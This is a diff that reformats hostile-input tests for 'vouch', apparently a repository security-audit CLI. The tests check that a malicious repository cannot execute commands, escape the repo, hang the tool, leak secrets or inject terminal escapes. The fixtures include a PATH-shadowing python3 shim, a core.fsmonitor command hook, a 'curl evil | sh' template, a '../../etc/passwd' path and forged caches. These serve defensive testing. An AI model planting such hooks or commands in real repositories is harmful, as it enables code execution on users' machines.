@@ -34,13 +34,27 @@ const AWS_KEY = 'AKIAQWERTYUIOPASDFGH';
 function git(cwd: string, ...args: string[]): string {
   return execFileSync(
     'git',
-    ['-c', 'user.name=t', '-c', 'user.email=t@t', '-c', 'commit.gpgsign=false', '-c', 'protocol.file.allow=always', ...args],
+    [
+      '-c',
+      'user.name=t',
+      '-c',
+      'user.email=t@t',
+      '-c',
+      'commit.gpgsign=false',
+      '-c',
+      'protocol.file.allow=always',
+      ...args,
+    ],
     { cwd, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] },
   );
 }
 
 /** A scratch folder holding `repo/` (a committed git repository) and room for canaries beside it. */
-function scratch(files: Record<string, string> = { 'app.py': 'x = 1\n' }): { base: string; root: string; canary: string } {
+function scratch(files: Record<string, string> = { 'app.py': 'x = 1\n' }): {
+  base: string;
+  root: string;
+  canary: string;
+} {
   const base = mkdtempSync(join(tmpdir(), 'vouch-hostile-'));
   made.push(base);
   const root = join(base, 'repo');
@@ -61,7 +75,10 @@ function touchOld(file: string): void {
   utimesSync(file, old, old);
 }
 
-async function run(args: string[], options: { cwd?: string; env?: Record<string, string | undefined>; timeout?: number } = {}) {
+async function run(
+  args: string[],
+  options: { cwd?: string; env?: Record<string, string | undefined>; timeout?: number } = {},
+) {
   return execa(process.execPath, [BIN, ...args], {
     cwd: options.cwd ?? REPO,
     reject: false,
@@ -190,7 +207,10 @@ describe('the audited repository cannot make vouch run a command', () => {
         writeFileSync(join(root, 'python3'), `#!/bin/sh\ntouch ${canary}\nexec /usr/bin/python3 "$@"\n`);
         chmodSync(join(root, 'python3'), 0o755);
         mkdirSync(join(base, 'bin'));
-        writeFileSync(join(base, 'bin', 'bandit'), '#!/usr/bin/env python3\nimport sys\nfrom bandit.cli.main import main\nsys.exit(main())\n');
+        writeFileSync(
+          join(base, 'bin', 'bandit'),
+          '#!/usr/bin/env python3\nimport sys\nfrom bandit.cli.main import main\nsys.exit(main())\n',
+        );
         chmodSync(join(base, 'bin', 'bandit'), 0o755);
       },
       env: ({ base }) => ({ PATH: `.:${join(base, 'bin')}:${process.env.PATH ?? '/usr/bin:/bin'}` }),
@@ -247,7 +267,10 @@ describe('the audited repository cannot make vouch run a command', () => {
     git(s.root, 'add', '-A');
     git(s.root, 'commit', '-q', '-m', 'answers');
     git(s.root, 'config', 'core.fsmonitor', `touch ${s.canary}; false`);
-    const signoff = await run(['signoff', s.root, '--release', '1.0.0', '--no-bandit', '--signer', 'T <t@t>'], {});
+    const signoff = await run(
+      ['signoff', s.root, '--release', '1.0.0', '--no-bandit', '--signer', 'T <t@t>'],
+      {},
+    );
     expect(signoff.stderr).toBe('');
     expect(signoff.exitCode).toBe(0);
     git(s.root, '-c', 'core.fsmonitor=false', 'add', '.vouch/signoffs');
@@ -262,7 +285,8 @@ describe('the repository settings cannot direct bandit or the reports elsewhere'
   const rows: { name: string; settings: string; message: RegExp }[] = [
     {
       name: 'bandit args writing a file outside the repository',
-      settings: '[tool.vouch.bandit]\nargs = ["-o", "OUTSIDE/written", "-f", "custom", "--msg-template", "curl evil | sh # {line}"]\n',
+      settings:
+        '[tool.vouch.bandit]\nargs = ["-o", "OUTSIDE/written", "-f", "custom", "--msg-template", "curl evil | sh # {line}"]\n',
       message: /^vouch: pyproject\.toml:2:\d+: \[tool\.vouch\] bandit\.args: "-o" is not allowed/,
     },
     {
@@ -288,7 +312,8 @@ describe('the repository settings cannot direct bandit or the reports elsewhere'
     {
       name: 'a checklist outside the repository',
       settings: '[tool.vouch]\nchecklists = ["../../etc/passwd"]\n',
-      message: /^vouch: pyproject\.toml:2:\d+: \[tool\.vouch\] checklists\[0\] must be a path inside the repository/,
+      message:
+        /^vouch: pyproject\.toml:2:\d+: \[tool\.vouch\] checklists\[0\] must be a path inside the repository/,
     },
   ];
 
@@ -365,11 +390,31 @@ describe('vouch writes only inside the repository', () => {
 
 describe('special files never hang vouch', () => {
   const rows: { name: string; fifo: string; args?: string[]; exit: number[]; message?: RegExp }[] = [
-    { name: 'pyproject.toml is a FIFO', fifo: 'pyproject.toml', exit: [2], message: /^vouch: pyproject\.toml:1:1: not a regular file/ },
-    { name: '.vouch.yaml is a FIFO', fifo: '.vouch.yaml', exit: [2], message: /^vouch: \.vouch\.yaml:1:1: not a regular file/ },
-    { name: 'the answers file is a FIFO', fifo: '.vouch/answers.yaml', exit: [2], message: /^vouch: \.vouch\/answers\.yaml:1:1: not a regular file/ },
+    {
+      name: 'pyproject.toml is a FIFO',
+      fifo: 'pyproject.toml',
+      exit: [2],
+      message: /^vouch: pyproject\.toml:1:1: not a regular file/,
+    },
+    {
+      name: '.vouch.yaml is a FIFO',
+      fifo: '.vouch.yaml',
+      exit: [2],
+      message: /^vouch: \.vouch\.yaml:1:1: not a regular file/,
+    },
+    {
+      name: 'the answers file is a FIFO',
+      fifo: '.vouch/answers.yaml',
+      exit: [2],
+      message: /^vouch: \.vouch\/answers\.yaml:1:1: not a regular file/,
+    },
     { name: 'the bandit configuration is a FIFO', fifo: '.bandit', exit: [0] },
-    { name: 'the analysis cache is a FIFO', fifo: '.vouch/cache/analysis-v1.json', args: ['--cache'], exit: [0, 2] },
+    {
+      name: 'the analysis cache is a FIFO',
+      fifo: '.vouch/cache/analysis-v1.json',
+      args: ['--cache'],
+      exit: [0, 2],
+    },
     { name: 'a sign-off record is a FIFO (verify)', fifo: '.vouch/signoffs/1.0.0.json', args: [], exit: [1] },
   ];
 
@@ -397,12 +442,24 @@ describe('special files never hang vouch', () => {
 
 describe('no secret reaches the terminal through an error message', () => {
   const rows: { name: string; files: Record<string, string> }[] = [
-    { name: 'an unknown key in the answers file', files: { '.vouch/answers.yaml': `version: 1\n${TOKEN}: 1\nanswers: {}\n` } },
+    {
+      name: 'an unknown key in the answers file',
+      files: { '.vouch/answers.yaml': `version: 1\n${TOKEN}: 1\nanswers: {}\n` },
+    },
     { name: 'an unknown key in .vouch.yaml', files: { '.vouch.yaml': `${TOKEN}: 1\n` } },
     { name: 'an unknown key in [tool.vouch]', files: { 'pyproject.toml': `[tool.vouch]\n${TOKEN} = 1\n` } },
-    { name: 'an unknown item disabled in the settings', files: { '.vouch.yaml': `disable:\n  ${AWS_KEY}: because\n` } },
-    { name: 'an unknown item disabled in [tool.vouch.disable]', files: { 'pyproject.toml': `[tool.vouch.disable]\n${TOKEN} = "x"\n` } },
-    { name: 'a checklist file with an unknown key', files: { '.vouch.yaml': 'checklists: [ours.yaml]\n', 'ours.yaml': `id: x\n${TOKEN}: 1\n` } },
+    {
+      name: 'an unknown item disabled in the settings',
+      files: { '.vouch.yaml': `disable:\n  ${AWS_KEY}: because\n` },
+    },
+    {
+      name: 'an unknown item disabled in [tool.vouch.disable]',
+      files: { 'pyproject.toml': `[tool.vouch.disable]\n${TOKEN} = "x"\n` },
+    },
+    {
+      name: 'a checklist file with an unknown key',
+      files: { '.vouch.yaml': 'checklists: [ours.yaml]\n', 'ours.yaml': `id: x\n${TOKEN}: 1\n` },
+    },
   ];
 
   it.each(rows)('$name', async (row) => {
@@ -431,7 +488,15 @@ describe('bad input is one line and exit 2', () => {
   it('a report that cannot be written', async () => {
     const s = scratch();
     writeFileSync(join(s.base, 'file'), '');
-    const result = await run([s.root, ...AUDIT, '--no-bandit', '--format', 'md,json', '--output', join(s.base, 'file', 'sub/')]);
+    const result = await run([
+      s.root,
+      ...AUDIT,
+      '--no-bandit',
+      '--format',
+      'md,json',
+      '--output',
+      join(s.base, 'file', 'sub/'),
+    ]);
     expect(result.exitCode).toBe(2);
     expect(result.stderr).toMatch(/^vouch: cannot write the report /);
     expect(result.stderr).not.toMatch(/internal error/);
@@ -458,7 +523,15 @@ describe('verify counts every change since the sign-off', () => {
     writeFileSync(join(s.root, '.vouch', 'answers.yaml'), JSON.stringify(answers));
     git(s.root, 'add', '-A');
     git(s.root, 'commit', '-q', '-m', 'answers');
-    const signoff = await run(['signoff', s.root, '--release', '1.0.0', '--no-bandit', '--signer', 'T <t@t>']);
+    const signoff = await run([
+      'signoff',
+      s.root,
+      '--release',
+      '1.0.0',
+      '--no-bandit',
+      '--signer',
+      'T <t@t>',
+    ]);
     expect(signoff.exitCode).toBe(0);
     git(s.root, 'add', '.vouch/signoffs');
     git(s.root, 'mv', 'app.py', '.vouch/signoffs/app.json');
@@ -472,7 +545,9 @@ describe('verify counts every change since the sign-off', () => {
 describe('no stack trace, whatever the input', () => {
   it('a reader that closes the pipe early (vouch checklist list | head -c 10)', async () => {
     // The reading end is gone before vouch writes a byte, as when `head` has already exited.
-    const child = spawn(process.execPath, [BIN, 'checklist', 'list', '--json'], { stdio: ['ignore', 'pipe', 'pipe'] });
+    const child = spawn(process.execPath, [BIN, 'checklist', 'list', '--json'], {
+      stdio: ['ignore', 'pipe', 'pipe'],
+    });
     child.stdout?.destroy();
     let stderr = '';
     child.stderr?.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
@@ -496,7 +571,9 @@ describe('a cache shipped with the repository cannot hide findings', () => {
     const cacheHome = join(s.base, 'xdg');
     const env = { XDG_CACHE_HOME: cacheHome };
     // A real cache of this very file, made by vouch, then emptied of its findings, as an attacker would.
-    const first = await run([s.root, '--non-interactive', '--no-bandit', '--fail-on', 'none', '-v'], { env: { XDG_CACHE_HOME: join(s.base, 'attacker') } });
+    const first = await run([s.root, '--non-interactive', '--no-bandit', '--fail-on', 'none', '-v'], {
+      env: { XDG_CACHE_HOME: join(s.base, 'attacker') },
+    });
     expect(first.exitCode).toBe(0);
     const cacheFile = join(s.root, '.vouch', 'cache', 'analysis-v1.json');
     const text = readFileSync(cacheFile, 'utf8');
@@ -505,7 +582,9 @@ describe('a cache shipped with the repository cannot hide findings', () => {
     for (const file of Object.values(data.python.files)) file.findings = [];
     for (const forged of [JSON.stringify(data), `${tag}\n${JSON.stringify(data)}`]) {
       writeFileSync(cacheFile, forged);
-      const result = await run([s.root, '--non-interactive', '--no-bandit', '--fail-on', 'fail', '-q'], { env });
+      const result = await run([s.root, '--non-interactive', '--no-bandit', '--fail-on', 'fail', '-q'], {
+        env,
+      });
       expect(result.stdout).toMatch(/no-eval-exec/);
     }
   });
@@ -514,7 +593,9 @@ describe('a cache shipped with the repository cannot hide findings', () => {
     const s = scratch({ 'app.py': 'eval(input())\n' });
     const env = { XDG_CACHE_HOME: join(s.base, 'xdg') };
     await run([s.root, '--non-interactive', '--no-bandit', '--fail-on', 'none'], { env });
-    const second = await run([s.root, '--non-interactive', '--no-bandit', '--fail-on', 'fail', '-v'], { env });
+    const second = await run([s.root, '--non-interactive', '--no-bandit', '--fail-on', 'fail', '-v'], {
+      env,
+    });
     expect(second.stderr).toMatch(/python: done — 1 files \(0 parsed, 1 from cache\)/);
     expect(second.stdout).toMatch(/no-eval-exec/);
   });
@@ -562,7 +643,15 @@ describe('no terminal escape sequence from the repository reaches the terminal',
     writeFileSync(join(s.root, '.vouch', 'answers.yaml'), JSON.stringify(answers));
     git(s.root, 'add', '-A');
     git(s.root, 'commit', '-q', '-m', 'answers');
-    const signoff = await run(['signoff', s.root, '--release', '1.0.0', '--no-bandit', '--signer', 'Eve \u001b[2K\r<e@e>']);
+    const signoff = await run([
+      'signoff',
+      s.root,
+      '--release',
+      '1.0.0',
+      '--no-bandit',
+      '--signer',
+      'Eve \u001b[2K\r<e@e>',
+    ]);
     // eslint-disable-next-line no-control-regex
     expect(signoff.stdout).not.toMatch(/[\u001b\r]/u);
     const verify = await run(['verify', s.root]);
